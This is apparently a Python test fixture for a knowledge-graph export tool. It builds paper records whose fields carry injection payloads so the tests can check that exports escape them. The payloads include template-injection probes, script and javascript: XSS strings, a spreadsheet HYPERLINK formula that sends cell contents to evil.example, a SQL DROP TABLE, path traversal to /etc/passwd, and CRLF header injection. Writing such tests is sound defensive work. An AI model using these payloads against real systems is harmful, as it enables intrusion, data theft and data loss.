"""Papers whose titles, names, venues, addresses, values and rules are all something that a careless page would run.

What runs would set ``window.pwned`` or open a dialog; what is evaluated would show a product.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Final

from kg.model import ENTITY_TYPES, extraction_to_json
from tests.exports.hostile import TEXTS as FOR_FORMATS
from tests.exports.hostile import hostile_extraction
from tests.exports.made_graph import HOSTILE as FOR_PAGES

FOR_SERVERS: Final = (
    "{{ 1337*7331 }} ${1337*7331} #{1337*7331} <%= 1337*7331 %> {% raw %}",
    "</title></textarea></style></template><script>alert(1)</script>",
    "'-alert(1)-'\\\";alert(1)//",
    "<a href='javascript:alert(1)'>x</a>",
    "javascript:alert(1)//https://papers.example/",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1-1@SUM(A1)|cmd",
    "'; DROP TABLE node; --",
    'a" OR NEAR(b c, 2) * ^title : -NOT AND (',
    '"} UNION { ?s ?p ?o } # <x> \\u0022 \'\'\' """',
    "../../etc/passwd",
    "..%2f%2e%2e/%00?a=b#c&d;e",
    "//evil.example/\\\\evil.example",
    "x\r\nSet-Cookie: pwned=1\r\n\r\n<script>alert(1)</script>",
)
"""Texts that break out of templates, attributes, queries, tables, paths and headers."""
EVALUATED: Final = str(1337 * 7331)
"""What a template shows that takes one of them for its own."""
TEXTS: Final = tuple(dict.fromkeys((*FOR_SERVERS, *FOR_PAGES, *FOR_FORMATS)))


def write_hostile(path: Path) -> None:
    """Write the extractions of one paper for each text, with things of every type in it.

    Escapes of JSON keep the half characters, which UTF-8 cannot hold.
    """
    found = (extraction_to_json(hostile_extraction(text, ENTITY_TYPES)) for text in TEXTS)
    path.write_text("".join(json.dumps(extraction) + "\n" for extraction in found), encoding="ascii")
